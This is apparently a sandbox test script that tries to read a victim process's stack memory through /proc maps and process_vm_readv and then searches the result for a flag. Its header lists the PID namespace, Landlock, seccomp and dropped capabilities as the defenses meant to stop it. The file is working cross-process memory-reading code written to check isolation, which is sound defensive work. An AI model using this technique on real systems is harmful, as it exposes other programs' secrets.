# /// attack
# tries = "reads the memory of another process by process_vm_readv"
# wins = "flag"
# stopped_by = ["PID namespace", "Landlock", "seccomp", "capabilities dropped"]
# proof = {without = ["landlock", "seccomp", "capabilities"]}
# ///
import ctypes
import re


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def attack():
    with open("/proc/@VICTIM@/maps") as maps:
        stack = next(line for line in maps if "[stack]" in line)
    begin, end = (int(word, 16) for word in stack.split()[0].split("-"))
    here = ctypes.create_string_buffer(end - begin)
    ours, theirs = Vector(ctypes.addressof(here), end - begin), Vector(begin, end - begin)
    libc = ctypes.CDLL(None)
    libc.process_vm_readv(int("@VICTIM@"), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    raise RuntimeError(re.findall(b"flag-[0-9a-f]{24}", here.raw))
